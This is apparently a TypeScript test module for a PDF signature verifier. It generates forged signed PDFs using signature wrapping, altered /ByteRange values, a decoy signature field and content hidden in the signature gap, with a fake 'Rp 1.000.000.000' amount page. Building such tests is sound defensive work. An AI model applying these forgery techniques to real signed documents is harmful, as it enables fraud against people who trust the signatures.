import { openPdf } from '../../../src/signatures/syntax/pdf-file.ts'
import { at, contentOf, gapOf, rangeOf, streamBody } from '../support/edit.ts'
import type { Attacks } from './attack.ts'

const billion = streamBody('BT /F1 20 Tf 72 700 Td (Rp 1.000.000.000) Tj ET')

/** The signed bytes, and where the file may be opened. */
const halves = (signed: Buffer) => {
  const [, b, c, d] = rangeOf(signed)
  return {
    first: signed.subarray(0, b),
    gap: signed.subarray(b, c),
    second: signed.subarray(c, c + d),
    range: [b, c, d] as const,
  }
}

/** A cross-reference that calls the wrapped content up, and then the true second half, moved. */
const wrapped = (signed: Buffer, between: (at: number) => Buffer, statedGap: 'old' | 'new'): Buffer => {
  const { first, gap, second, range } = halves(signed)
  const file = openPdf(signed)
  const inserted = between(first.length + gap.length)
  const whole = Buffer.concat([first, gap, inserted, second])
  const moved = first.length + gap.length + inserted.length
  const text = whole.toString('latin1')
  const stated = `/ByteRange [0 ${range.join(' ')}]`
  const put = `/ByteRange [0 ${range[0]} ${statedGap === 'new' ? moved : range[1]} ${range[2]}]`
  const start = text.lastIndexOf('startxref')
  return Buffer.from(
    `${text.slice(0, start).replace(stated, put.padEnd(stated.length))}startxref\n${moved - 0 - 0 + (file.xref.sections[0]! - range[1])}\n%%EOF`,
    'latin1',
  )
}

/** Signature wrapping (Ruhr University): the signed second half is moved away, and what is shown stands between. */
export const wrappings: Attacks = {
  'content between /Contents and the rest, the range moved': {
    wants: 'a verifier that hashes what the range says, and a viewer that shows what stands between',
    make: ({ signed }) =>
      wrapped(signed, () => Buffer.from(`\n${contentOf(openPdf(signed), 0)} 0 obj\n${billion}\nendobj\n`), 'new'),
  },
  'the same, and the range left': {
    wants: 'a verifier that looks for the pieces',
    make: ({ signed }) =>
      wrapped(signed, () => Buffer.from(`\n${contentOf(openPdf(signed), 0)} 0 obj\n${billion}\nendobj\n`), 'old'),
  },
  'a whole document between': {
    wants: 'the same with pages, catalog and cross-reference of its own',
    make: ({ signed, letter }) =>
      wrapped(signed, () => Buffer.concat([Buffer.from('\n'), letter, Buffer.from('\n')]), 'new'),
  },
  'a range of four numbers that skips a part': {
    wants: 'a hole in the middle beside the gap',
    make: ({ signed }) => {
      const [, b, c, d] = rangeOf(signed)
      const text = signed.toString('latin1')
      const stated = `/ByteRange [0 ${b} ${c} ${d}]`
      return Buffer.from(text.replace(stated, `/ByteRange [0 ${b - 400} ${c} ${d}]`.padEnd(stated.length)), 'latin1')
    },
  },
  'the true signature in an object beside, a false one in the field': {
    wants: 'a verifier that finds any signature and a viewer that shows the field’s',
    make: ({ signed }) => {
      const file = openPdf(signed)
      const { num } = at(file, 'AcroForm', 'Fields', 0, 'V')
      const tail = Buffer.from(
        `\n${num} 0 obj\n<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Contents <00> /ByteRange [0 1 2 3]>>\nendobj\n`,
      )
      const row = `${String(signed.length + 1).padStart(10, '0')} 00000 n\r\n`
      const xref = `xref\n${num} 1\n${row}trailer\n<</Size 99 /Root ${file.rootNum} 0 R /Prev ${file.xref.sections[0]}>>\nstartxref\n${signed.length + tail.length}\n%%EOF`
      return Buffer.concat([signed, tail, Buffer.from(xref)])
    },
  },
  'the gap filled with a whole file': {
    wants: 'a reserve of 24 KiB as a hiding place',
    make: ({ signed, letter }) => {
      const { from, to } = gapOf(signed)
      const copy = Buffer.from(signed)
      copy.write(letter.toString('hex').slice(0, Math.floor((to - from) / 4) * 2), Math.floor((from + to) / 2))
      return copy
    },
  },
}
